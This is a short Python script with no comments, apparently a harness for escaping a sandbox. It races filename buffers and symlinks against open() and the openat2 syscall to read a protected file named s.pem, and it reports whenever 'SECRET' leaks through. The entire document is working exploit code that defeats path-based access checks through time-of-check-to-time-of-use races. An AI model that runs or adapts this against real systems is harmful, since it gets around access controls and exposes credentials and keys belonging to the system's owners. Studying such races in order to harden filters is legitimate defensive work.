import os, ctypes, threading, time, struct
L = ctypes.CDLL(None, use_errno=True); stop = False; seen = 0
def flip(buf, texts):
    while not stop:
        for t in texts: ctypes.memmove(buf, t, len(t))
def race(texts, call):
    global stop, seen
    stop = False; size = max(len(t) for t in texts); texts = [t + b'\0' * (size - len(t)) for t in texts]
    buf = ctypes.create_string_buffer(texts[0], size + 1)
    th = threading.Thread(target=flip, args=(buf, texts), daemon=True); th.start()
    end = time.time() + 0.4
    while time.time() < end:
        fd = call(buf)
        if fd >= 0:
            seen += 1
            try:
                if b'SECRET' in os.read(fd, 100): print('SECRET', texts)
            except OSError: pass
            os.close(fd)
    stop = True; th.join()
for other in (b'/usr/bin/env', b'/dev/null', b'/proc/self/status', b'/dev/tty', b'ok', b'/tmp', b'nothing', b'l'):
    race([other, b's.pem'], lambda b: L.open(b, os.O_RDONLY | os.O_NONBLOCK))
for flags in (os.O_CREAT, os.O_CREAT | os.O_EXCL, os.O_NOFOLLOW, os.O_RDWR, os.O_NONBLOCK):
    race([b'/tmp/made', b's.pem'], lambda b: L.open(b, flags, 0o600))
race([struct.pack('QQQ', os.O_PATH, 0, 0), struct.pack('QQQ', os.O_RDONLY, 0, 0)], lambda b: L.syscall(437, -100, b's.pem', b, 24))
def links():
    i = 0
    while not stop:
        i += 1
        try: os.symlink(('ok', 's.pem')[i % 2], 'n%d' % i); os.rename('n%d' % i, 'l')
        except OSError: pass
stop = False; th = threading.Thread(target=links, daemon=True); th.start()
for _ in range(3000):
    try:
        if 'SECRET' in open('l').read(): print('SECRET by link')
    except OSError: pass
stop = True; th.join()
print('seen', seen > 1000)
